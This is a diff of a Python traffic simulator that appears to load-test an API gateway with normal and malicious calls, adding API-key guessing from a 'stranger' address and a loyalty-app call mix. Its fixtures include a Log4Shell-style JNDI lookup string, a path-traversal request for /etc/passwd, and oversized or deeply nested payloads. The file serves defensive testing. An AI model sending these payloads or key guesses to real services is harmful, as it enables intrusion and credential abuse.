@@ -24,8 +24,12 @@ WAITING = 96
 """The most calls that were begun and have not ended: callers of a slow gateway wait."""
 ANSWER_SECONDS = 10.0
 SKUS = ("mug-001", "mug-002", "tea-001", "tea-002", "pot-001")
+APP = "loyalty-app"
+"""An application that is not in the document: it comes from the portal."""
 CUSTOMERS = ("Ada", "Björn", "Chidi", "Dolores O'Neill", "Émile", "Фатима", "Grace", "許")
 BLOCKED = "127.0.0.66"
+STRANGER = "127.0.0.99"
+"""From where somebody tries doors."""
 DEEP = "[" * 60 + "]" * 60
 LARGE = json.dumps({"customer": "A" * 70_000, "lines": []})
 LOOKUP = "${jndi:ldap://203.0.113.9/a}"
@@ -67,6 +71,18 @@ def _one(chance: random.Random, who: str, method: str, version: str, credential:
     )
 
 
+def _guess(chance: random.Random) -> Call:
+    return Call(
+        "nobody",
+        "GET",
+        "/inventory/v1/levels",
+        "guessed",
+        times=3,
+        source=STRANGER,
+        pick=chance.randrange(1_000_000),
+    )
+
+
 def _preflight(origin: str) -> Call:
     """What a browser asks before a page of this origin may send a token."""
     fields = (
@@ -105,8 +121,8 @@ HABITS: tuple[tuple[int, Callable[[random.Random], Call]], ...] = (
 )
 
 MISTAKES: tuple[tuple[int, Callable[[random.Random], Call]], ...] = (
-    (12, lambda _: Call("nobody", "GET", "/sales/v2/orders", "none")),
-    (9, lambda _: Call("nobody", "GET", "/inventory/v1/levels", "guessed")),
+    (12, lambda _: Call("nobody", "GET", "/sales/v2/orders", "none", source=STRANGER)),
+    (9, _guess),
     (9, lambda _: Call("storefront", "GET", "/sales/v3/orders")),
     (3, lambda _: Call("nobody", "GET", "/sales/v2/orders/%2e%2e/%2e%2e/etc/passwd", "none")),
     (3, lambda _: Call("kiosk", "PATCH", "/sales/v2/orders", body="{}")),
@@ -148,6 +164,20 @@ def calls(seed: int) -> Iterator[Call]:
     )
     while True:
         yield chance.choice(mistakes if chance.random() < 0.15 else habits)(chance)
+
+
+THE_APP: tuple[Callable[[random.Random], Call], ...] = (
+    *[lambda chance: Call(APP, "GET", f"/sales/v2/orders?sku={chance.choice(SKUS)}&limit=5")] * 5,
+    *[lambda chance: Call(APP, "GET", f"/shop/v1/products/{chance.choice(SKUS)}")] * 4,
+    lambda chance: Call(APP, "GET", f"/inventory/v1/forecast/{chance.choice(SKUS)}"),
+)
+
+
+def calls_of_the_app(seed: int) -> Iterator[Call]:
+    """What the app of the sample developer does: nothing wrong, and more than its plan gives."""
+    chance = random.Random(seed)  # noqa: S311 - sample traffic, no secret
+    while True:
+        yield chance.choice(THE_APP)(chance)
 
 
 class Tokens:
@@ -197,15 +227,25 @@ class Traffic:
         tokens: The tokens of those that have none.
         seed: Which calls.
         rate: Calls a second.
+        mix: Gives the calls of a seed.
     """
 
-    def __init__(self, address: str, keys: dict[str, str], tokens: Tokens, seed: int, rate: float) -> None:
+    def __init__(
+        self,
+        address: str,
+        keys: dict[str, str],
+        tokens: Tokens,
+        seed: int,
+        rate: float,
+        *,
+        mix: Callable[[int], Iterator[Call]] = calls,
+    ) -> None:
         self.address, self.keys, self.tokens = address, keys, tokens
         self.pages: Counter[bool] = Counter()
         """Product pages by whether they were complete."""
         self.broken: deque[str] = deque(maxlen=5)
         """The last calls that got no answer at all, and why."""
-        self._calls, self._pause = calls(seed), 1 / rate
+        self._calls, self._pause = mix(seed), 1 / rate
         self._orders: deque[int] = deque(maxlen=500)
         self._places = threading.Semaphore(WAITING)
         self._own = threading.local()
@@ -270,7 +310,7 @@ class Traffic:
             case "none":
                 return {}
             case "guessed":
-                return {"X-Api-Key": "lg_letmein"}
+                return {"X-Api-Key": f"lg_letmein{call.pick}"}
             case "key":
                 return {"X-Api-Key": self.keys[call.who]}
             case which:
